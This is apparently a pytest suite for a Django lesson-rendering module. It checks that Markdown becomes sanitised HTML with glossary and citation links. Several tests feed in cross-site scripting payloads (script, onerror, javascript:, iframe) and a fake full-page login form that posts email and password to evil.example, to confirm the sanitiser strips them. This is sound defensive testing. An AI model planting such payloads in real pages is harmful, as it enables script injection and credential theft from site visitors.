"""Lesson Markdown is rendered once, on save, to sanitised HTML with glossary and citation links."""

import re

import pytest

from education.rendering import markdown_to_plain, render_markdown, term_slugs_in
from tests.factories import FaqFactory, GlossaryTermFactory, LessonFactory, SectionFactory


def test_glossary_link_points_to_the_entry_on_the_same_page():
    html = render_markdown("Some [bone-clearing cells (osteoclasts)](term:osteoclast).", {"osteoclast"})
    assert '<a class="term-link" data-term="osteoclast" href="#term-osteoclast"' in html
    assert ">bone-clearing cells (osteoclasts)</a>" in html


def test_a_term_without_a_glossary_entry_stays_plain_words():
    html = render_markdown("Some [mystery words](term:not-in-glossary) here.", known_terms=set())
    assert "mystery words" in html
    assert "href" not in html
    assert "term:" not in html


def test_citations_link_to_the_numbered_references():
    html = render_markdown("A finding [1, 3]. Another [2].")
    assert html.count('href="#ref-') == 3
    for n in (1, 2, 3):
        assert (
            f'<a href="#ref-{n}" rel="noopener noreferrer"><span class="sr-only">reference </span>{n}</a>'
            in html
        )


def test_ordinary_links_are_kept_and_marked_noopener():
    html = render_markdown("[start your daily check-in](/tracker/) and [a paper](https://doi.org/10.1/x)")
    assert '<a href="/tracker/" rel="noopener noreferrer">start your daily check-in</a>' in html
    assert 'href="https://doi.org/10.1/x"' in html


@pytest.mark.parametrize(
    "dangerous, forbidden",
    [
        ("<script>alert('x')</script>", ["<script", "alert("]),
        ('<img src="x" onerror="alert(1)">', ["<img", "onerror"]),
        ("[click](javascript:alert(1))", ["javascript:"]),
        ('<a href="https://example.org" onclick="steal()">x</a>', ["onclick"]),
        ('<p style="color:red">x</p>', ["style="]),
        ('<iframe src="https://evil.example"></iframe>', ["<iframe"]),
    ],
)
def test_markup_that_could_run_or_load_anything_is_removed(dangerous, forbidden):
    html = render_markdown(f"Safe words.\n\n{dangerous}\n\nMore safe words.")
    assert "Safe words." in html and "More safe words." in html
    for text in forbidden:
        assert text not in html


def test_headings_inside_a_section_sit_below_the_section_heading():
    html = render_markdown("# Big\n\n## Also big\n\n### Right size")
    assert "<h1" not in html and "<h2" not in html
    assert html.count("<h3>") == 3


def test_term_slugs_in_finds_each_linked_term_once():
    text = "[a](term:osteoclast) and [b](term:osteoblast) and [c](term:osteoclast) and [d](https://x.org)"
    assert term_slugs_in(text) == {"osteoclast", "osteoblast"}


def test_markdown_to_plain_keeps_the_words_and_drops_the_markup():
    plain = markdown_to_plain("## Heading {#anchor}\n\n- **Bold** [link words](term:x) cited [2]\n- item two")
    assert plain == "Heading.\n\nBold link words cited.\nitem two."


@pytest.mark.django_db
def test_saving_a_section_renders_its_html_and_keeps_scripts_out():
    GlossaryTermFactory(slug="osteoclast")
    section = SectionFactory(body="Read about [cells](term:osteoclast).<script>alert(1)</script>")
    section.refresh_from_db()
    assert 'href="#term-osteoclast"' in section.body_html
    assert "<script" not in section.body_html


@pytest.mark.django_db
def test_saving_with_update_fields_renders_the_changed_text_too():
    section = SectionFactory(body="Old words.")
    section.body = "New words."
    section.save(update_fields=["body"])
    section.refresh_from_db()
    assert section.body_html == "<p>New words.</p>"


@pytest.mark.django_db
def test_lesson_in_brief_and_faq_answers_are_rendered_on_save():
    lesson = LessonFactory(in_brief="- **First** point", in_brief_html="stale")
    faq = FaqFactory(lesson=lesson, answer="An *answer*.")
    lesson.refresh_from_db()
    faq.refresh_from_db()
    assert lesson.in_brief_html == "<ul>\n<li><strong>First</strong> point</li>\n</ul>"
    assert faq.answer_html == "<p>An <em>answer</em>.</p>"


@pytest.mark.django_db
def test_the_lesson_glossary_follows_the_terms_its_text_uses():
    used, in_faq, unused = (GlossaryTermFactory(slug=s) for s in ("osteoclast", "osteoblast", "cytokine"))
    lesson = LessonFactory()
    section = SectionFactory(lesson=lesson, body="[a](term:osteoclast)")
    faq = FaqFactory(lesson=lesson, answer="[b](term:osteoblast)")
    assert set(lesson.glossary_terms.all()) == {used, in_faq}

    section.body = "No terms now."
    section.save()
    assert set(lesson.glossary_terms.all()) == {in_faq}

    faq.delete()
    assert not lesson.glossary_terms.exists()
    assert unused.lessons.count() == 0


@pytest.mark.django_db
def test_a_glossary_term_added_later_links_the_text_that_already_uses_it():
    lesson = LessonFactory(in_brief="Mentions [signals](term:cytokine).")
    section = SectionFactory(lesson=lesson, body="Uses [signal proteins (cytokines)](term:cytokine).")
    faq = FaqFactory(lesson=lesson, answer="[a signal](term:cytokine)")
    section.refresh_from_db()
    assert "href" not in section.body_html and not lesson.glossary_terms.exists()
    history_before = section.history.count()

    term = GlossaryTermFactory(slug="cytokine")

    for obj, field in ((lesson, "in_brief_html"), (section, "body_html"), (faq, "answer_html")):
        obj.refresh_from_db()
        assert 'href="#term-cytokine"' in getattr(obj, field)
    assert list(lesson.glossary_terms.all()) == [term]
    assert section.history.count() == history_before

    term.delete()
    section.refresh_from_db()
    assert "href" not in section.body_html and "signal proteins (cytokines)" in section.body_html
    assert not lesson.glossary_terms.exists()


# --- "For the curious" panels and the class allow-list (issues #18, #15 item 11) -----------------


def test_a_curious_block_becomes_a_details_panel_with_its_markdown_rendered():
    html = render_markdown("Core text.\n\n::: curious The signals\nSome **detail** [1].\n:::\n\nMore core.")
    assert html.startswith("<p>Core text.</p>")
    assert '<details class="curious"><summary>For the curious: The signals</summary>' in html
    assert "<strong>detail</strong>" in html and 'href="#ref-1"' in html
    assert html.index("</details>") < html.index("More core.")


def test_a_curious_heading_is_text_never_markup():
    html = render_markdown('::: curious <img src=x onerror="alert(1)"> heading\nBody.\n:::')
    assert "<img" not in html  # shown as the words typed, escaped
    assert 'For the curious: &lt;img src=x onerror="alert(1)"&gt; heading</summary>' in html


def test_an_unclosed_curious_block_runs_to_the_end_and_a_lone_closing_line_stays_text():
    html = render_markdown("::: curious Open\nInside.")
    assert html.count("<details") == 1 and "Inside." in html
    assert "<details" not in render_markdown("Just text.\n:::\n")


def test_a_fake_full_page_login_in_lesson_markdown_loses_everything_that_draws_it():
    fake = (
        '<div class="position-fixed top-0 start-0 w-100 h-100 bg-white" style="z-index:9999">'
        '<h2 class="display-1">Your session has ended</h2>'
        '<form action="https://evil.example/steal" method="post"><input type="email" name="email">'
        '<input type="password" name="password"><button class="btn btn-primary">Log in</button></form>'
        '<a class="stretched-link position-fixed" href="https://evil.example/login">Log in again</a>'
        '<span class="position-absolute d-none visually-hidden">x</span></div>'
    )
    html = render_markdown(f"Bone is living tissue.\n\n{fake}")
    forbidden = ["position-", "stretched-link", "w-100", "bg-white", "display-1", "btn", "d-none"]
    forbidden += ["visually-hidden", "<form", "<input", "<button", "<div", "style=", "z-index"]
    for text in forbidden:
        assert text not in html, text
    # What is left is plain text and an ordinary link, marked as leaving the site.
    link = re.search(r"<a [^>]*>Log in again</a>", html).group(0)
    assert 'href="https://evil.example/login"' in link and 'rel="noopener noreferrer"' in link
    assert "class=" not in link


def test_only_the_classes_the_renderer_writes_survive():
    html = render_markdown(
        '<span class="cite sr-only hacker">a</span> <a class="term-link extra" href="#x">b</a>'
    )
    assert 'class="cite sr-only"' in html and 'class="term-link"' in html
    assert "hacker" not in html and "extra" not in html
